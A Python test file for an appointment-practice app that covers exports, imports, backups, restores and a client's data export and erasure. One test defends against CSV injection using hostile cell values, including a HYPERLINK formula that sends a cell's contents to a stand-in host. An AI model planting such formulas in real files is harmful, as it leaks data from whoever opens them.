"""Taking data out and bringing it back: exports that import again and open in
calendar programs, backups and restores, daily copies, and a client's data on
request (export and erasure)."""

from __future__ import annotations

import json
import sqlite3
import threading
from datetime import UTC, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from icalendar import Calendar

from app import i18n
from app.models.enums import AppointmentStatus, Channel
from app.services import (
    attendances,
    backups,
    client_data,
    clients,
    config,
    exports,
    importing,
    queries,
    scheduling,
)
from app.services.clock import FrozenClock
from app.services.errors import InvalidInput
from app.services.practice import Practice, open_practice
from app.services.scheduling import BookingRequest
from app.services.worker import Worker
from tests.conftest import add_client, add_service, local

NOV, DEC = datetime(2026, 11, 1).date(), datetime(2026, 12, 31).date()


@pytest.fixture
def agenda(practice: Practice) -> dict[str, int]:
    service = add_service(practice)
    maria = add_client(practice)
    joao = add_client(practice, "João Alves", "+55 21 99876-5432", None)
    ids = {"service": service, "maria": maria, "joao": joao}
    ids["a"] = scheduling.book(practice, BookingRequest(
        client_id=maria, start=local("2026-11-23T10:00"), service_id=service, notes="1ª"))
    ids["b"] = scheduling.book(practice, BookingRequest(
        client_id=joao, start=local("2026-11-24T15:30"), service_id=service))
    ids["c"] = scheduling.book(practice, BookingRequest(
        client_id=maria, start=local("2026-11-30T10:00"), service_id=service))
    scheduling.confirm(practice, ids["b"])
    scheduling.cancel(practice, ids["c"], reason="viagem")
    return ids


def summary(p: Practice) -> list[tuple[str, datetime, str, str, str]]:
    return sorted((v.client_name, v.start, v.service_name, v.staff_name, v.status.value)
                  for v in queries.list_appointments(p, start=NOV, end=DEC))


@pytest.mark.parametrize("language", ["pt_BR", "en"])
@pytest.mark.parametrize("fmt", [exports.Format.CSV, exports.Format.XLSX])
def test_an_export_imports_back_into_another_practice(
        practice: Practice, agenda: dict[str, int], tmp_path: Path, language: str,
        fmt: exports.Format) -> None:
    i18n.set_language(language)
    path = tmp_path / f"sessions.{fmt.value}"
    rows = exports.sessions(practice, NOV, DEC)
    assert exports.write(practice, fmt, path, rows) == 3
    other = open_practice(tmp_path / "other", clock=practice.clock, logging_on=False)
    try:
        report = importing.import_file(other, path)
        assert report.imported == 3, [r.reason for r in report.rows]
        assert summary(other) == summary(practice)
    finally:
        other.close()


HOSTILE = {
    "name": '=HYPERLINK("http://example.invalid/?d="&C2,"Ana")',
    "service": "+SUM(1)",
    "notes": "@cmd",
    "staff": "-2+3",
}


@pytest.mark.parametrize("fmt", [exports.Format.CSV, exports.Format.XLSX])
def test_text_from_outside_never_becomes_a_formula_and_comes_back_as_it_was(
        practice: Practice, tmp_path: Path, fmt: exports.Format) -> None:
    """OWASP's CSV injection, in every text cell of both exports; numbers and dates
    stay numbers and dates; importing the file back gives the same text."""
    import zipfile

    from app.services import catalog

    service = catalog.add_service(practice, name=HOSTILE["service"], duration_minutes=50).id
    staff = catalog.add_staff(practice, name=HOSTILE["staff"]).id
    client = clients.add(practice, name=HOSTILE["name"], phone="+1 415 555 0100",
                         email="ana@example.com").id
    for start, notes in (("2026-11-23T10:00", HOSTILE["notes"]), ("2026-11-24T10:00", "=2*3"),
                         ("2026-11-25T10:00", "'=already quoted"), ("2026-11-26T10:00",
                                                                    "\tTAB")):
        scheduling.book(practice, BookingRequest(client_id=client, start=local(start),
                                                 service_id=service, staff_id=staff,
                                                 notes=notes))
    path = tmp_path / f"sessions.{fmt.value}"
    exports.write(practice, fmt, path, exports.sessions(practice, NOV, DEC))
    if fmt is exports.Format.CSV:
        import csv

        rows = list(csv.reader(path.read_text("utf-8-sig").splitlines(), delimiter=","))
        for row in rows[1:]:
            texts = [row[i] for i in (1, 2, 4, 8, 11)]  # name, phone, service, staff, notes
            assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts), row
        assert rows[1][1] == "'" + HOSTILE["name"] and rows[1][2] == "'+1 415-555-0100"
    else:
        with zipfile.ZipFile(path) as book:
            xml = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in xml and "HYPERLINK" in xml
        sheet = openpyxl.load_workbook(path).worksheets[0]
        first = [c.value for c in sheet[2]]
        assert first[1] == HOSTILE["name"] and first[5] == datetime(2026, 11, 23)
        assert isinstance(first[7], int) and isinstance(first[10], (int, float))  # numbers
    other = open_practice(tmp_path / "other", clock=practice.clock, logging_on=False)
    try:
        report = importing.import_file(other, path)
        assert report.imported == 4, [r.reason for r in report.rows]
        back = queries.list_appointments(other, start=NOV, end=DEC)
        assert {v.client_name for v in back} == {HOSTILE["name"]}
        assert {v.service_name for v in back} == {HOSTILE["service"]}
        assert {v.staff_name for v in back} == {HOSTILE["staff"]}
        assert sorted(v.notes for v in back) == sorted(  # as written, blanks aside
            (v.notes or "").strip() for v in queries.list_appointments(practice, start=NOV,
                                                                        end=DEC))
        assert "'=already quoted" in {v.notes for v in back}
    finally:
        other.close()


def test_a_csv_for_brazilian_excel(practice: Practice, agenda: dict[str, int],
                                   tmp_path: Path) -> None:
    i18n.set_language("pt_BR")
    path = tmp_path / "sessoes.csv"
    exports.write(practice, exports.Format.CSV, path, exports.sessions(practice, NOV, DEC))
    text = path.read_bytes().decode("utf-8")
    assert text.startswith("\ufeffId;Nome;Telefone;E-mail;Serviço;Data;Hora;")
    assert f"{agenda['a']};Maria Silva;(11) 98765-4321;maria@example.com;Psicoterapia;" \
           "23/11/2026;10:00;50;" in text
    assert "Confirmado" in text and "200,00;1ª" in text


def test_xlsx_has_real_dates_and_numbers(practice: Practice, agenda: dict[str, int],
                                         tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    exports.write(practice, exports.Format.XLSX, path, exports.sessions(practice, NOV, DEC))
    sheet = openpyxl.load_workbook(path).worksheets[0]
    first = [c.value for c in sheet[2]]
    assert first[5] == datetime(2026, 11, 23) and first[10] == 200.0


def test_ics_has_stable_uids_and_cancelled_sessions(practice: Practice, agenda: dict[str, int],
                                                    tmp_path: Path) -> None:
    def events(path: Path) -> dict[str, object]:
        cal = Calendar.from_ical(path.read_bytes())
        return {str(e["uid"]): e for e in cal.walk("VEVENT")}

    one, two = tmp_path / "1.ics", tmp_path / "2.ics"
    exports.write(practice, exports.Format.ICS, one, exports.sessions(practice, NOV, DEC))
    scheduling.book(practice, BookingRequest(client_id=agenda["joao"],
                                             start=local("2026-12-01T09:00"),
                                             service_id=agenda["service"]))
    exports.write(practice, exports.Format.ICS, two, exports.sessions(practice, NOV, DEC))
    first, second = events(one), events(two)
    assert set(first) < set(second) and len(second) == 4
    a = second[exports.uid(agenda["a"])]
    assert a["dtstart"].dt == local("2026-11-23T10:00").astimezone(UTC)  # type: ignore[index]
    assert a["dtend"].dt == local("2026-11-23T10:50").astimezone(UTC)  # type: ignore[index]
    assert str(a["summary"]) == "Maria Silva · Psicoterapia"  # type: ignore[index]
    assert str(second[exports.uid(agenda["c"])]["status"]) == "CANCELLED"  # type: ignore[index]
    assert str(second[exports.uid(agenda["b"])]["status"]) == "CONFIRMED"  # type: ignore[index]


def test_export_filters_and_bad_ranges(practice: Practice, agenda: dict[str, int]) -> None:
    cancelled = exports.sessions(practice, NOV, DEC, statuses=[AppointmentStatus.CANCELLED])
    assert [v.id for v in cancelled] == [agenda["c"]]
    with pytest.raises(InvalidInput, match="before the start date"):
        exports.sessions(practice, DEC, NOV)


def test_a_file_that_cannot_be_written_leaves_the_old_one_whole(
        practice: Practice, agenda: dict[str, int], tmp_path: Path) -> None:
    rows = exports.sessions(practice, NOV, DEC)
    for target, write in (
            (tmp_path / "agenda.csv", lambda t: exports.write(practice, exports.Format.CSV, t,
                                                              rows)),
            (tmp_path / "maria.json", lambda t: client_data.write_export(practice,
                                                                         agenda["maria"], t))):
        write(target)
        before = target.read_bytes()
        assert before.strip()
        (tmp_path / f"{target.name}.part").mkdir()  # the temporary name is taken
        with pytest.raises(InvalidInput, match="cannot be written"):
            write(target)
        assert target.read_bytes() == before
        (tmp_path / f"{target.name}.part").rmdir()
    assert json.loads((tmp_path / "maria.json").read_text(encoding="utf-8"))["client"]["name"] \
        == "Maria Silva"


def test_backup_and_restore_keep_the_current_database_aside(
        practice: Practice, agenda: dict[str, int], tmp_path: Path) -> None:
    info = backups.backup(practice, tmp_path / "copy.sqlite3")
    assert (info.sessions, info.clients) == (3, 2)
    later = scheduling.book(practice, BookingRequest(
        client_id=agenda["joao"], start=local("2026-12-01T09:00"), service_id=agenda["service"]))
    restored, aside = backups.restore(practice, info.path)
    assert restored.sessions == 3
    assert later not in {v.id for v in queries.list_appointments(practice, start=NOV, end=DEC)}
    assert backups.inspect_file(aside).sessions == 4  # nothing lost: the previous state is kept
    # The practice keeps working on the restored data.
    again = scheduling.book(practice, BookingRequest(
        client_id=agenda["joao"], start=local("2026-12-02T09:00"), service_id=agenda["service"]))
    assert queries.show(practice, again).client_name == "João Alves"


@pytest.mark.parametrize("damage", ["truncated", "not_sqlite", "foreign", "newer"])
def test_a_bad_backup_is_refused_and_changes_nothing(
        practice: Practice, agenda: dict[str, int], tmp_path: Path, damage: str) -> None:
    path = backups.backup(practice, tmp_path / "copy.sqlite3").path
    if damage == "truncated":
        path.write_bytes(path.read_bytes()[: path.stat().st_size // 3])
    elif damage == "not_sqlite":
        path.write_text("hello")
    elif damage == "foreign":
        path.unlink()
        with sqlite3.connect(path) as db:
            db.execute("CREATE TABLE notes (x)")
    else:
        with sqlite3.connect(path) as db:
            db.execute("UPDATE alembic_version SET version_num = '9999'")
    before = summary(practice)
    with pytest.raises(InvalidInput, match=r"copy\.sqlite3"):
        backups.restore(practice, path)
    assert summary(practice) == before
    assert not list(practice.paths.backups.glob("before-restore-*"))


def test_a_backup_taken_while_another_connection_writes_is_sound(
        practice: Practice, agenda: dict[str, int], tmp_path: Path) -> None:
    writer = open_practice(practice.paths.root, clock=practice.clock, logging_on=False)
    stop = threading.Event()

    def write() -> None:
        n = 0
        while not stop.is_set():
            clients.add(writer, name=f"Cliente {n}", phone=f"+55 11 9{n:04d}-{n:04d}")
            n += 1

    thread = threading.Thread(target=write)
    thread.start()
    try:
        infos = [backups.backup(practice, tmp_path / f"b{i}.sqlite3") for i in range(5)]
    finally:
        stop.set()
        thread.join()
        writer.close()
    counts = [i.clients for i in infos]
    assert counts == sorted(counts) and counts[0] >= 2


def test_daily_backups_once_a_day_keeping_fourteen(practice: Practice, clock: FrozenClock,
                                                   agenda: dict[str, int]) -> None:
    Worker(practice).back_up()  # what the window and `practice worker` run every hour
    assert [f.name for f in backups.list_daily(practice)] == ["daily-2026-11-20.sqlite3"]
    assert backups.daily(practice) is None  # once a day
    for _day in range(20):
        clock.advance(timedelta(days=1))
        backups.daily(practice)
    kept = backups.list_daily(practice)
    assert len(kept) == 14
    assert kept[0].name == "daily-2026-12-10.sqlite3"


def test_the_copies_in_the_data_folder_are_listed_by_kind_newest_first(
        practice: Practice, agenda: dict[str, int]) -> None:
    import os

    folder = practice.paths.backups
    assert backups.copies(practice) == []
    backups.daily(practice)
    by_hand = backups.backup(practice, folder).path
    _info, aside = backups.restore(practice, by_hand)
    (folder / "daily-2026-11-21.sqlite3.1a2b3c4d.part").write_bytes(b"half")  # being written
    for age, path in enumerate((aside, by_hand, folder / "daily-2026-11-20.sqlite3")):
        os.utime(path, (1_700_000_000 - age * 60, 1_700_000_000 - age * 60))
    listed = backups.copies(practice)
    assert [(c.kind, c.path) for c in listed] == [
        (backups.CopyKind.BEFORE_RESTORE, aside), (backups.CopyKind.MANUAL, by_hand),
        (backups.CopyKind.DAILY, folder / "daily-2026-11-20.sqlite3")]
    assert listed[0].taken == datetime.fromtimestamp(1_700_000_000, UTC)
    assert listed[1].size == by_hand.stat().st_size


def test_a_clients_data_on_request_and_erasure(practice: Practice, agenda: dict[str, int],
                                               tmp_path: Path) -> None:
    config.set_values(practice, {"reminders.default": "whatsapp:1440"})
    clients.update(practice, agenda["maria"], notes="ansiedade", grant=[Channel.WHATSAPP])
    d = scheduling.book(practice, BookingRequest(
        client_id=agenda["maria"], start=local("2026-12-07T10:00"),
        service_id=agenda["service"], notes="trazer exames"))
    talk = attendances.start(practice, medium="whatsapp", name="Maria Silva",
                             phone="+55 11 98765-4321", notes="prefere à tarde")
    attendances.log_call(practice, talk, direction="in", seconds=60, outcome="answered",
                         notes="ligou sobre o recibo")
    data = client_data.export(practice, agenda["maria"])
    json.dumps(data)  # plain JSON
    assert data["conversations"][0]["notes"] == "prefere à tarde"
    assert "ligou sobre o recibo" in json.dumps(data["conversations"][0]["entries"],
                                                ensure_ascii=False)
    assert data["client"]["email"] == "maria@example.com"
    assert data["client"]["notes"] == "ansiedade"
    assert [s["id"] for s in data["sessions"]] == [agenda["a"], agenda["c"], d]
    assert any(m["recipient"] == "+5511987654321" for m in data["messages"])
    assert {e["action"] for e in data["audit"]} >= {"client_created", "created", "cancel"}

    before = clients.stats(practice, agenda["maria"])
    client_data.erase(practice, agenda["maria"])
    after = clients.stats(practice, agenda["maria"])
    assert (after.sessions, after.cancelled, after.upcoming) == (
        before.sessions, before.cancelled, before.upcoming)
    shown = clients.get(practice, agenda["maria"])
    assert (shown.name, shown.phone, shown.email) == (f"#{agenda['maria']} (erased)", None, None)
    # Nothing that identifies her is left anywhere in the practice's data.
    whole = backups.backup(practice, practice.paths.root / "whole.sqlite3").path
    with sqlite3.connect(whole) as db:
        dump = "\n".join(db.iterdump())
    for trace in ("Maria Silva", "maria@example.com", "5511987654321", "98765-4321",
                  "ansiedade", "trazer exames", "viagem", "prefere à tarde", "recibo"):
        assert trace not in dump, trace
    assert "João Alves" in dump  # other clients untouched
    with pytest.raises(InvalidInput, match="already erased"):
        client_data.erase(practice, agenda["maria"])
